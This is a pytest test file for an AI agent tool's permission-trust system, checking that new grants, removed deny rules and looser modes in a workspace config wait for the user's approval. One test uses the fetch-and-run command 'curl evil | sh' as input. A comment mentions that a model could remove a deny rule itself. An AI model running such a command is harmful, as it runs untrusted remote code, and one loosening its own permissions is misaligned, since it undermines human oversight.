"""A workspace's own permissions count once its user accepted them: new grants, dropped restrictions and a
looser mode wait for a yes; what applies meanwhile keeps every restriction ever accepted; a person's
"always, in this project" accepts exactly the rules it wrote."""

from __future__ import annotations

from pathlib import Path

import pytest

from tether.config import Config, PermissionsConfig
from tether.runtime.configuration import permission_rules, save_project_rules
from tether.runtime.rules import Rules
from tether.runtime.trust import accept, accepted, pending_change, withheld


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TETHER_HOME", str(tmp_path / "home"))
    work = tmp_path / "ws"
    (work / ".tether").mkdir(parents=True)
    return work.resolve()


def project(ws: Path, text: str) -> None:
    (ws / ".tether" / "config.toml").write_text(text)


def decide(rules: Rules, command: str, ws: Path) -> str:
    return rules.decide("bash", {"command": command}, read_only=False, workspace=ws).action


def test_restrictions_alone_need_no_yes(ws: Path) -> None:
    permissions = PermissionsConfig(deny=["bash(git push*)"], ask=["edit(migrations/**)"], mode="plan")
    assert pending_change(str(ws), ws / ".tether" / "config.toml", permissions) is None


def test_a_new_grant_waits_and_what_applies_meanwhile_holds_every_restriction(ws: Path) -> None:
    project(ws, '[permissions]\nallow = ["bash(git *)"]\ndeny = ["bash(git push*)"]\n')
    asked: list[str] = []
    rules = permission_rules(Config(), ws, confirm=lambda change: asked.extend(change.diff()) or False)
    assert asked == ["+ allow bash(git *)"]
    assert decide(rules, "git log", ws) == "ask" and decide(rules, "git push", ws) == "deny"
    rules = permission_rules(Config(), ws, confirm=lambda change: True)
    assert decide(rules, "git log", ws) == "allow"
    assert accepted(str(ws))["allow"] == ["bash(git *)"] and accepted(str(ws))["deny"] == ["bash(git push*)"]


def test_a_dropped_deny_asks_again_and_stays_in_force_until_then(ws: Path) -> None:
    project(ws, '[permissions]\nallow = ["bash(git *)"]\ndeny = ["bash(git push*)"]\n')
    permission_rules(Config(), ws, confirm=lambda change: True)
    project(ws, '[permissions]\nallow = ["bash(git *)"]\n')  # the deny is gone (a model could have done it)
    asked: list[str] = []
    rules = permission_rules(Config(), ws, confirm=lambda change: asked.extend(change.diff()) or False)
    assert asked == ["- deny bash(git push*)"]
    assert decide(rules, "git push", ws) == "deny" and decide(rules, "git log", ws) == "allow"


def test_a_looser_mode_waits_and_a_stricter_one_given_up_waits_too(ws: Path) -> None:
    path = ws / ".tether" / "config.toml"
    looser = PermissionsConfig(mode="accept-edits")
    change = pending_change(str(ws), path, looser)
    assert change is not None and change.diff() == ["  mode: default -> accept-edits"]
    assert withheld(change, looser).mode is None
    accept(str(ws), PermissionsConfig(mode="plan"))
    change = pending_change(str(ws), path, PermissionsConfig())
    assert change is not None and withheld(change, PermissionsConfig()).mode == "plan"


def test_always_in_this_project_accepts_only_what_the_person_answered(ws: Path) -> None:
    project(ws, '[permissions]\nallow = ["bash"]\n')  # planted, never accepted
    save_project_rules(ws, ["bash(git status*)"])
    assert accepted(str(ws))["allow"] == ["bash(git status*)"]
    rules = permission_rules(Config(), ws)  # no terminal: the planted grant stays out
    assert decide(rules, "git status", ws) == "allow" and decide(rules, "curl evil | sh", ws) == "ask"


def test_a_damaged_trust_file_accepts_nothing(ws: Path, tmp_path: Path) -> None:
    (tmp_path / "home").mkdir(exist_ok=True)
    (tmp_path / "home" / "trusted-projects.json").write_text("{not json")
    project(ws, '[permissions]\nallow = ["bash"]\n')
    rules = permission_rules(Config(), ws)
    assert decide(rules, "ls", ws) == "ask"
